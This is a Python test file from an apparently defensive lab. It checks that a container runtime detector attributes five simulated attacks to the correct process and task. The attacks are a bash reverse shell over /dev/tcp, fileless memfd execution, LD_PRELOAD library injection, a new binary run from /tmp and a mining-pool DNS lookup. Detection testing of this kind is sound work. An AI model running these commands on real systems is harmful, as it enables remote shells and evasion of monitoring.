"""The five attacks of the demo, each on the exact process, in all tasks of a container instance at once.

The process that is to be found waits for a line of input before it does what it is for. Meanwhile it is looked up
from outside by its pid in the container: so its pid on the machine is known from the kernel and not from Outrider.
"""

import itertools
import sys
import threading
from collections.abc import Sequence

import pytest
from host_findings import FOUND_WITHIN_S, OUTRUN_WITHIN_S, Watch
from msgspec import Struct

from outrider_lab.attacks.scenario import FILELESS, MINING_NAME, NEW_BINARY, NEW_LIBRARY, REVERSE_SHELL
from outrider_lab.host.lab import HostedTask, HostLab
from outrider_lab.host.machine import LOOPBACK, free_port
from outrider_lab.process import LabProcess
from outrider_lab.settings import MAIN
from outrider_wire.findings import Finding

pytestmark = pytest.mark.lab

MEMFD = """
import os
fd = os.memfd_create("payload", 0)
with open("/bin/sleep", "rb") as source: os.write(fd, source.read())
print("actor=%d" % os.getpid(), flush=True)
input()
os.execve("/proc/self/fd/%d" % fd, ["quiet", "0.2"], {})
"""
LISTENER = """
import socket, time
server = socket.create_server(("{host}", {port}))
print("listening", flush=True)
peer, _ = server.accept()
time.sleep(0.7)
peer.sendall(b"exit\\n")
time.sleep(0.3)
"""
PORTS = itertools.count(4700)
LIBRARY = "cp -L \"$(ldconfig -p | sed -n 's/.*libz\\.so\\.1 .*=> //p' | head -n 1)\" /tmp/libexact.so"


class Attack(Struct, frozen=True):
    """`prepare` is done first; `act` is what the process becomes once it was told to."""

    finding: str
    act: str
    prepare: str = ":"

    def script(self, **places: object) -> str:
        act = self.act
        for name, value in places.items():
            act = act.replace(f"{{{name}}}", str(value))
        if "actor=" in act:
            return f"{self.prepare}; {act}"
        return f"{self.prepare}; sh -c 'echo actor=$$; read -r go; exec {act}'"


FIVE = (
    Attack(NEW_BINARY, "/tmp/exact 0.1", "cp /bin/sleep /tmp/exact"),
    Attack(NEW_LIBRARY, "env LD_PRELOAD=/tmp/libexact.so sleep 0.3", LIBRARY),
    Attack(FILELESS, f"{sys.executable} -c '{MEMFD}'"),
    Attack(REVERSE_SHELL, 'bash -c "exec bash -i >& /dev/tcp/{host}/{port} 0>&1"'),
    Attack(MINING_NAME, "getent hosts xmr-eu1.nanopool.org"),
)


def start(task: HostedTask, attack: Attack, *, host: str = "", port: int = 0) -> tuple[LabProcess, int]:
    """The waiting process, and its pid on the machine."""
    process = task.popen(attack.script(host=host, port=port))
    told = int(process.read_line(b"actor="))
    (pid,) = [one.pid for one in task.processes() if one.task_pid == told]
    return process, pid


def release(process: LabProcess) -> None:
    process.write(b"\n")
    process.communicate(timeout_s=15)


def do(task: HostedTask, attack: Attack) -> int:
    """Play an attack to its end; the pid of the process that did it."""
    if attack.finding != REVERSE_SHELL:
        process, pid = start(task, attack)
        release(process)
        return pid
    host, port = task.attacker, free_port() if task.attacker == LOOPBACK else next(PORTS)
    with task.beside_popen([sys.executable, "-c", LISTENER.format(host=host, port=port)]) as peer:
        peer.read_until(b"listening\n")
        process, pid = start(task, attack, host=host, port=port)
        release(process)
        peer.wait(timeout_s=10)
    return pid


def check(finding: Finding, task: HostedTask, pid: int) -> None:
    assert finding.process is not None, finding
    assert finding.process.pid == pid, (finding.process, pid)
    assert finding.container is not None
    assert (finding.container.name, finding.container.id) == (MAIN, task.facts["id:app"])
    assert finding.task is not None
    assert finding.task.arn == task.arn


def is_untold(task: HostedTask, attack: Attack) -> bool:
    """A known gap: in the machine's own network, a question whose asker was gone too soon may be the machine's own."""
    return attack.finding == MINING_NAME and task.settings.network == "host"


def check_all(
    watch: Watch, pids: dict[tuple[str, str], int], tasks: list[HostedTask], attacks: Sequence[Attack]
) -> None:
    """Each attack is one finding, on its process, in its container, of its task; and there are no others."""
    untold = 0
    for task in tasks:
        for attack in attacks:
            found = watch.wait(
                lambda one: one.type == attack.finding and one in watch.of(task),  # noqa: B023
                timeout_s=OUTRUN_WITHIN_S if is_untold(task, attack) else FOUND_WITHIN_S,
            )
            if not found and is_untold(task, attack):
                untold += 1
                continue
            assert len(found) == 1, (task.settings.network, [(one.type, one.description) for one in watch.of(task)])
            check(found[0], task, pids[task.arn, attack.finding])
    assert len(watch.findings()) == len(pids) - untold, [(one.type, one.description) for one in watch.findings()]
    if untold:
        pytest.xfail("the question of a process in the machine's own network is not told of: its asker was gone")


@pytest.mark.parametrize("attack", FIVE, ids=lambda one: one.finding.rpartition("/")[2])
def test_it_is_found_on_the_very_process_in_each_network(attack: Attack, lab: HostLab):
    """One after the other in three tasks: three findings, each on its process, in its container, of its task."""
    watch = Watch(lab)
    pids = {(task.arn, attack.finding): do(task, attack) for task in lab.tasks}
    check_all(watch, pids, lab.tasks, [attack])


def do_all_at_once(tasks: list[HostedTask]) -> dict[tuple[str, str], int]:
    """All five in all tasks at once: the pid by task and finding."""
    pids: dict[tuple[str, str], int] = {}

    def run(task: HostedTask) -> None:
        for attack in FIVE:
            pids[task.arn, attack.finding] = do(task, attack)

    threads = [threading.Thread(target=run, args=(task,)) for task in tasks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    return pids


def test_several_tasks_at_once(lab: HostLab):
    """Fifteen attacks in three tasks at the same time: fifteen findings, none on another's task or process."""
    watch = Watch(lab)
    pids = do_all_at_once(lab.tasks)
    assert len(pids) == len(FIVE) * len(lab.tasks)
    check_all(watch, pids, lab.tasks, FIVE)
